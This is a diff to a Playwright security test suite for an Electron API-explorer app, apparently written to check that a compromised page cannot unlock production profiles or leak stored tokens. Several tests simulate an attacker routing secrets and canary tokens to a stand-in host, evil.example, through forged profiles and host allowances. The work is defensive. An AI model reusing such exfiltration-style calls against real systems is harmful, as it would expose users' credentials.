@@ -1,4 +1,5 @@
-import type { Page } from '@playwright/test';
+import type { ElectronApplication, Page } from '@playwright/test';
+import { setTimeout } from 'node:timers/promises';
 import fc from 'fast-check';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -40,26 +41,33 @@ const draftTo = (destinationUrl: string, headers: VaultForwardDraft['headers'] =
   body: '{}',
 });
 
-/** Calls one request of the bridge with any argument. Returns the result, or null when it is waiting for the person. */
-function call(page: Page, name: string, argument: unknown): Promise<string | null> {
+/** Calls one request of the bridge with any argument. Returns the answer, which may have to wait for the person. */
+function call(page: Page, name: string, argument: unknown): Promise<string> {
   return page.evaluate(
-    async ([method, sent]) => {
+    ([method, sent]) => {
       const request: unknown = Reflect.get(window.explorer, method);
       if (typeof request !== 'function') return 'no such request';
       const asked = Promise.resolve(Reflect.apply(request, window.explorer, [sent]) as unknown);
-      const told = asked.then(
-        (answer) => JSON.stringify(answer),
+      return asked.then(
+        (answer) => JSON.stringify(answer) ?? 'nothing',
         (error: unknown) => String(error),
       );
-      return Promise.race([
-        told,
-        new Promise<null>((resolve) => {
-          setTimeout(() => resolve(null), 1_500);
-        }),
-      ]);
     },
     [name, argument] as const,
   );
+}
+
+/** Waits until the call has led to a question. The returned function closes that without an answer, and the call ends. */
+async function untilAsked(app: ElectronApplication, calling: Promise<string>): Promise<() => Promise<void>> {
+  const answers: string[] = [];
+  const ended = calling.then((answer) => answers.push(answer));
+  await expect.poll(() => questionPages(app).length).toBe(1);
+  expect(answers).toEqual([]);
+  return async () => {
+    await questionPages(app)[0]?.close();
+    await expectNoQuestion(app);
+    await ended;
+  };
 }
 
 /** The active profile, as any code with the bridge can read it. */
@@ -102,8 +110,7 @@ test('a page that is taken over can neither unlock production, nor charge on it,
     { name: 'Harmless', readOnly: false },
   ]) {
     const edit = { profileId, draft: { ...locked, ...weaker } };
-    expect(await call(page, 'editProfile', edit), JSON.stringify(weaker)).toBeNull();
-    await expect.poll(() => questionPages(app).length).toBe(1);
+    const close = await untilAsked(app, call(page, 'editProfile', edit));
     const tried = await page.evaluate(async () => {
       const failed = (doing: () => unknown) =>
         Promise.resolve()
@@ -126,8 +133,7 @@ test('a page that is taken over can neither unlock production, nor charge on it,
     });
     expect(tried).toEqual([true, true, true, false, 0]);
     expect(questionPages(app)).toHaveLength(1);
-    await questionPages(app)[0]?.close();
-    await expectNoQuestion(app);
+    await close();
     expect(await activeProfile(page)).toEqual({ id: profileId, ...locked });
   }
   // Nor does a copy, a deletion that is undone, or a detour through another environment.
@@ -148,13 +154,18 @@ test('a page that is taken over can neither unlock production, nor charge on it,
   const unlocking = call(page, 'editProfile', { profileId, draft: { ...locked, readOnly: false } });
   await answerQuestion(app, 'Unlock Live EU?', 'Unlock it');
   await unlocking;
-  const same = await Promise.all([send(), send(), send()]);
-  expect(same.filter((answer) => answer?.includes('already-under-way'))).toHaveLength(2);
-  const many = await Promise.all(Array.from({ length: 8 }, (_, index) => send(index + 1)));
-  expect(many.filter((answer) => answer?.includes('too-many-questions')).length).toBeGreaterThan(0);
-  expect(many.some((answer) => answer?.includes('"sent"'))).toBe(false);
+  const answers: string[] = [];
+  const sendAll = (amounts: readonly number[]) =>
+    amounts.map((amount) => send(amount).then((answer) => answers.push(answer)));
+  const refused = (code: string) => answers.filter((answer) => answer.includes(code)).length;
+  const same = sendAll([0, 0, 0]);
+  await expect.poll(() => refused('already-under-way')).toBe(2);
+  const many = sendAll([1, 2, 3, 4, 5, 6, 7, 8]);
+  await expect.poll(() => refused('too-many-questions')).toBeGreaterThan(0);
   await call(page, 'activateProfile', { profileId: 'local-sandbox' });
   await expectNoQuestion(app);
+  await Promise.all([...same, ...many]);
+  expect(refused('"sent"')).toBe(0);
   expect(service.posts()).toBe(0);
   service.close();
 });
@@ -188,16 +199,15 @@ test('a page that is taken over gets no token to an address, a proxy or a file o
       query: { limit: null, cursor: null, parameters: [] },
       callId: crypto.randomUUID(),
     });
-    expect(await call(page, 'confirmCredential', { profileId })).toBeNull();
-    await expect.poll(() => questionPages(app).length).toBe(1);
-    await questionPages(app)[0]?.close();
-    await expectNoQuestion(app);
+    const close = await untilAsked(app, call(page, 'confirmCredential', { profileId }));
+    await close();
     await call(page, 'deleteProfile', { profileId });
     await call(page, 'undoDeleteProfile', { profileId });
     await call(page, 'activateProfile', { profileId });
     await lookUp();
-    // Restored, except that a production environment stays locked and is left as it is.
-    await call(page, 'editProfile', { profileId, draft: { ...saved, environment: draft.environment } });
+    // Restored, except that a production environment stays, and stays locked.
+    const { environment, readOnly } = draft;
+    await call(page, 'editProfile', { profileId, draft: { ...saved, environment, readOnly } });
   }
   // A header of its own is not sent in the token's place, nor is the token sent along with one.
   expect(JSON.stringify(thief.seen)).not.toContain('CANARY');
@@ -278,29 +288,26 @@ test('a page that is taken over sends no stored secret to a host that it was not
   // Only the person can allow another host for it.
   const lists = await page.evaluate(() => window.explorer.describeSecretHosts());
   const [list] = lists.ok ? lists.value : [];
-  expect(await call(page, 'allowSecretHost', { id: list?.id, host: 'evil.example' })).toBeNull();
+  let close = await untilAsked(app, call(page, 'allowSecretHost', { id: list?.id, host: 'evil.example' }));
   await question(app, 'Let a secret go to another host?');
-  await questionPages(app)[0]?.close();
-  await expectNoQuestion(app);
+  await close();
   // Through a service of the page's choice, which can read what it forwards: the person is asked.
   const { id: profileId, ...rest } = profile;
   const moved = { ...rest, baseUrl: 'https://evil.example', proxy: { kind: 'none' } };
   const created = await call(page, 'createProfile', { draft: { ...moved, name: 'Evil' } });
-  const evilId: unknown = JSON.parse(created ?? '{}').value?.profileId;
+  const evilId: unknown = JSON.parse(created).value?.profileId;
   await call(page, 'saveToken', { profileId: evilId, token: 'its-own', home: 'this-run-only' });
   await call(page, 'activateProfile', { profileId: evilId });
-  expect(await sent(draftTo('https://psp.example/charge', [kept]))).toBeNull();
+  close = await untilAsked(app, sent(draftTo('https://psp.example/charge', [kept])));
   const asked = await question(app, 'Send a secret to a new host?');
   await expect(asked).toContainText('The service evil.example gets the secret');
-  await questionPages(app)[0]?.close();
-  await expectNoQuestion(app);
+  await close();
   // Once its hosts are forgotten the secret is new again, so the person is asked as well.
   await call(page, 'activateProfile', { profileId });
   await call(page, 'forgetSecretHost', { id: list?.id, host: 'psp.example' });
-  expect(await sent(draftTo('https://evil.example/', [kept]))).toBeNull();
+  close = await untilAsked(app, sent(draftTo('https://evil.example/', [kept])));
   await question(app, 'Send a secret to a new host?');
-  await questionPages(app)[0]?.close();
-  await expectNoQuestion(app);
+  await close();
   expect(service.posts()).toBe(1);
   expect(service.seen.filter(({ headers }) => headers.includes('CANARY-of-the-psp'))).toHaveLength(1);
   service.close();
@@ -343,12 +350,17 @@ test('no request of the bridge gives a secret away or weakens anything, whatever
   const answers: string[] = [];
   for (const name of names.filter((one) => !skipped.has(one))) {
     const samples = [undefined, ...fc.sample(junk, { numRuns: 6, seed: 20_261_122 })];
-    const told = await Promise.all(samples.map((argument) => call(page, name, argument)));
+    // One of them may wait for the person, who does not come.
+    const told = await Promise.all(
+      samples.map((argument) =>
+        Promise.race([call(page, name, argument).catch(String), setTimeout(1_500, '')]),
+      ),
+    );
     expect(
-      told.some((answer) => answer?.includes('"sent"') === true),
+      told.some((answer) => answer.includes('"sent"')),
       name,
     ).toBe(false);
-    answers.push(...told.map((answer) => answer ?? ''));
+    answers.push(...told);
   }
   expect(answers.length).toBeGreaterThan((names.length - skipped.size) * 6);
   expect(answers.filter((answer) => answer.includes('CANARY'))).toEqual([]);
